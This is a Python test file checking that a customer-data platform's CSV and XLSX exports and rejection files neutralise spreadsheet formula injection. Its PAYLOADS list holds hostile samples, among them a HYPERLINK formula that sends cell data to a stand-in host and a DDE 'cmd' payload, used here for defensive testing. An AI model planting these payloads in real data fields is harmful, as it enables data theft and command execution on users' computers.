"""Formula injection: a name like ``=HYPERLINK("http://x","y")`` sent through a source's public write key (or put
in a file) opens as text, never as a live formula, in every file kehu writes: the customer export (CSV and
XLSX), a segment's member export, an import's rejected rows and a list upload's rejected values. Numbers that
are numbers stay numbers a spreadsheet can add up."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from tests.cdp.test_exports import export
from tests.cdp.test_imports import run_jobs, upload
from tests.factories.cdp import basic, call, make_source, process

TRIGGERS = set("=+-@\t\r")  # OWASP's list
PAYLOADS = ['=HYPERLINK("http://x.example/?leak="&A2,"详情")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1,2)", "\t=1+1", "\r=1+1", ' =1+1']


def cells_of(content: bytes, fmt: str) -> list[list[object]]:
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula in the file"
        return [[cell.value for cell in row] for row in sheet.iter_rows()]
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def live_formulas(rows: list[list[object]]) -> list[object]:
    """Text cells a spreadsheet would read as a formula: beginning (behind any spaces) with = + - @, a tab or a
    carriage return, unless they are a bare number (or a masked mobile), which can call nothing."""
    return [cell for row in rows for cell in row if isinstance(cell, str) and cell.lstrip(" ")[:1] in TRIGGERS
            and not re.fullmatch(r"[+-]?\d+(\.\d+)?|\+\d+\*{4}\d{4}", cell)]


@pytest.fixture
def attacker(client, tree, login, session, clean_database):  # type: ignore[no-untyped-def]
    """Customers named by someone who holds nothing but a write key."""
    admin = login("admin@example.com")
    assert client.post("/api/v1/custom-fields", headers=admin, json={
        "key": "balance", "label_zh": "=余额", "label_en": "=Balance", "type": "number"}).status_code == 201
    _, key = make_source(session, tree.system, "官网", tree.dealer_a.id)
    session.commit()
    batch = [call("identify", userId=f"u{n}", traits={"name": payload, "city": "-上海", "phone": f"1381234{n:04d}",
                                                        "balance": -1500.5, "note": "@note"})
             for n, payload in enumerate(PAYLOADS)]
    sent = client.post("/v1/batch", headers=basic(key), json={"batch": batch})
    assert sent.status_code == 200 and not sent.json()["rejected"], sent.text
    process(clean_database)
    return admin


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_customer_export_holds_no_live_formula(client, attacker, clean_database, settings, fmt):  # type: ignore[no-untyped-def]
    _, file = export(client, attacker, clean_database, settings, format=fmt)
    rows = cells_of(file.content, fmt)
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + p.strip() for p in PAYLOADS}  # the name as it was kept, read as text
    assert live_formulas(rows) == []
    header = rows[0]
    assert header[-1] == "'=余额"  # an admin's label is text from outside too
    balances = [row[-1] for row in rows[1:]]
    assert balances == [-1500.5] * len(PAYLOADS) if fmt == "xlsx" else balances == ["-1500.5"] * len(PAYLOADS)
    assert {row[2] for row in rows[1:]} >= {"+8613812340000"}  # a mobile is a number, left as it is


def test_a_segment_export_holds_no_live_formula(client, attacker, clean_database, settings):  # type: ignore[no-untyped-def]
    people = client.get("/api/v1/customers", headers=attacker).json()["items"]
    added = client.post("/api/v1/segments", headers=attacker, json={
        "name": "官网访客", "kind": "static", "profile_ids": [p["id"] for p in people]})
    assert added.status_code == 201, added.text
    asked = client.post(f"/api/v1/segments/{added.json()['id']}/exports", headers=attacker, json={"format": "xlsx"})
    assert asked.status_code == 202, asked.text
    run_jobs(clean_database, settings)
    file = client.get(f"/api/v1/exports/{asked.json()['id']}/download", headers=attacker)
    rows = cells_of(file.content, "xlsx")
    assert len(rows) == len(PAYLOADS) + 1 and live_formulas(rows) == []


def test_an_imports_rejected_rows_hold_no_live_formula(client, tree, login, clean_database, settings):  # type: ignore[no-untyped-def]
    admin = login("admin@example.com")
    lines = ["姓名,手机,城市"] + [f'"{p.replace(chr(34), chr(34) * 2)}",12345,=1+1' for p in PAYLOADS]
    run = upload(client, admin, ("\n".join(lines) + "\n").encode()).json()
    client.post(f"/api/v1/imports/{run['id']}/start", headers=admin)
    run_jobs(clean_database, settings)
    rejected = client.get(f"/api/v1/imports/{run['id']}/rejections.csv", headers=admin)
    rows = cells_of(rejected.content, "csv")
    assert len(rows) == len(PAYLOADS) + 1
    assert {row[2] for row in rows[1:]} == {"'" + p.strip() for p in PAYLOADS}
    assert live_formulas(rows) == []


def test_a_list_uploads_rejected_values_hold_no_live_formula(session, tree):  # type: ignore[no-untyped-def]
    from kehu.segments import lists, schemas, service

    admin = tree.principal(session, tree.admin)
    segment = service.create_segment(session, admin, schemas.SegmentCreate(name="名单", kind="static"))
    content = ("手机\n" + "\n".join(f'"{p.replace(chr(34), chr(34) * 2)}"' for p in PAYLOADS) + "\n").encode()
    result = lists.add_from_file(session, admin, segment.id, filename="名单.csv", content=content, match_by="mobile")
    rows = cells_of(lists.rejections_csv(result, "zh"), "csv")
    assert len(rows) == len(PAYLOADS) + 1 and live_formulas(rows) == []
